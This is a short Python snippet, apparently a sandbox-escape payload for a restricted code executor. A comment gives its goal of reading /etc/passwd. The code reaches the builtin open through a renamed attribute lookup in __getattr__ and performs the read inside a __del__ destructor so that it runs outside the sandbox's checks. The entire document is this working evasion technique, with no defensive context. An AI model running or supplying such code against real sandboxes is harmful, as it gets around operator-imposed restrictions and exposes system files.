# goal: return open('/etc/passwd').read() via __getattr__/__del__ hooks that run outside checks
box = {}
class Sneaky:
    def __getattr__(self, name):
        return getattr(__builtins__, name[1:]) if not isinstance(__builtins__, dict) else __builtins__[name[1:]]
    def __del__(self):
        box["data"] = self.xopen("/etc/passwd").read()
s = Sneaky()
del s
return box.get("data")
